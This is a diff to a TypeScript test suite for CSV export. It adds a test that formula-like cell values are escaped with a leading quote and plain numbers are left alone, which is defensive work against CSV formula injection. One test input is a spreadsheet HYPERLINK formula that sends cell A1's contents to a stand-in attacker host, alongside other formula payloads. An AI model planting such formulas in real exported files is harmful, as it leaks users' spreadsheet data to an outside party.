@@ -68,4 +68,12 @@ describe('a CSV cell', () => {
     expect(cellOf(node, ['identifiers', 'kind'])).toBe('EMAIL;PHONE');
     expect(cellOf(node, ['properties'])).toBe('{"url":"/"}');
   });
+
+  it('shows as text what a spreadsheet would run as a formula, and leaves plain numbers as they are', () => {
+    const cell = (value: string) => cellOf({ value }, ['value']);
+    for (const formula of ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(1,2)', '-2+3', '@cmd', '\t=1+1', '\r=1+1']) {
+      expect(cell(formula)).toBe(`'${formula}`);
+    }
+    for (const plain of ['+420601234567', '-5.00', '12', 'Jana =1', '']) expect(cell(plain)).toBe(plain);
+  });
 });
